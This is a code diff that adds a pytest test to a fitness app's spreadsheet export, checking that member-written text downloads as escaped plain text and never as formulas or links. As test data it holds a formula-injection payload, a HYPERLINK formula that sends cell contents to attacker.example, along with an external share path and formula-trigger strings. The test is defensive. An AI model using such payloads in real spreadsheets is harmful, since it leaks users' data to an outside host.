@@ -1,4 +1,5 @@
-"""Routine downloads: QR codes back to each exercise's page, and its drawn positions."""
+"""Routine downloads: QR codes back to each exercise's page, its drawn positions, and
+spreadsheet cells that stay text."""
 
 import io
 import re
@@ -6,12 +7,13 @@ import re
 import pytest
 import zxingcpp
 from django.urls import reverse
+from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from exercises.figures.svg import ACCENT
-from plans.exports import describe, render_pdf
+from plans.exports import XLSX_HEADER_ROW, describe, render_pdf, render_xlsx
 from plans.models import Routine
-from tests.plans.factories import routine_with
+from tests.plans.factories import RoutineFactory, RoutineItemFactory, SessionFactory, routine_with
 
 pytestmark = pytest.mark.django_db
 
@@ -91,3 +93,32 @@ def test_pdf_of_exercises_without_figures_still_builds(user):
     pdf = render_pdf(sheet)
     assert "Glute bridge" in PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
     assert f"{ACCENT_STROKE} RG" not in content_of(pdf)
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?d="&A5,"Open")'
+FILE_LINK = r"external:\\attacker.example\share"
+
+
+def test_text_a_member_wrote_downloads_as_text_never_as_a_formula_or_a_link(user):
+    routine = RoutineFactory(owner=user, name=FORMULA)
+    session = SessionFactory(routine=routine, name=FILE_LINK)
+    RoutineItemFactory(session=session, load="+1+1", notes="@SUM(A1:A9)", sets=3)
+
+    sheet = load_workbook(io.BytesIO(render_xlsx(describe(routine))))["Routine"]
+
+    first = XLSX_HEADER_ROW + 2  # openpyxl counts from 1; the first exercise row
+    written = {
+        "title": sheet.cell(1, 1),
+        "session": sheet.cell(first, 1),
+        "load": sheet.cell(first, 6),
+        "cue": sheet.cell(first, 8),
+    }
+    assert {name: cell.data_type for name, cell in written.items()} == dict.fromkeys(written, "s")
+    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
+    assert {name: cell.value for name, cell in written.items()} == {
+        "title": "'" + FORMULA,
+        "session": FILE_LINK,
+        "load": "'+1+1",
+        "cue": "'@SUM(A1:A9)",
+    }
+    assert sheet.cell(first, 3).value == 3
